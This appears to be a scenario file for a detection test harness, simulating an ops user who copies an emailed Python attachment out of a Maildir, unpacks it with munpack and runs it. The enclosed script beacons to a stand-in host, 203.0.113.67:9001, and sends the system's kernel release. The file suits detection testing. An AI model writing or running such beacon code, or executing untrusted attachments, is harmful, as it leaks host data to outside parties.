# A message is copied out of the Maildir, unpacked with munpack somewhere else and the program in it is run.
title="Message copied out of the Maildir, unpacked with munpack, run with Python"
what="The ops account copies a message file from ~/Maildir into /var/tmp, unpacks its parts with munpack, and runs the enclosed Python program. It
connects to 203.0.113.67 port 9001 through a socket of its own."
host=mx1.example.org user=ops daemons="cron sshd"

setup() {
  cat > "$base/out/collect_metrics.py" <<'P'
import platform, socket
with socket.create_connection(("203.0.113.67", 9001)) as s:
    s.sendall(platform.release().encode())
print("collected")
P
}
act() {
  small_talk 2
  mail_in --from support@example.net --to ops+vendor@example.org --subject "[case 88213] please collect metrics" \
    --text "Run the enclosed program on the affected host, please.\n" --attach "$base/out/collect_metrics.py:text/x-python"
  wait_log 'to=<ops+vendor@example.org>.*status=sent'
  small_talk 2
  ssh_as ops <<'L'
grep -l 'case 88213' Maildir/new/*
mkdir /var/tmp/case
cp $(grep -l 'case 88213' Maildir/new/*) /var/tmp/case/m
cd /var/tmp/case
munpack m
%sleep 4
python3 collect_metrics.py
cd; rm -r /var/tmp/case
L
}
truth() {
  mail_step deliver 'to=<ops.vendor@example.org>.*status=sent' 'the message arrives by a plus address'
  exec_step copy 'cp Maildir/new/' 'the message file is copied away'
  exec_step unpack 'munpack m' 'its parts are unpacked'
  file_step part 'munpack (openat|open):write CREATE .*collect_metrics.py' 'the program appears'
  exec_step execute 'python3 collect_metrics.py' 'it runs'
  net_step beacon 'python3.* 203.0.113.67:9001' 'it calls out'
}
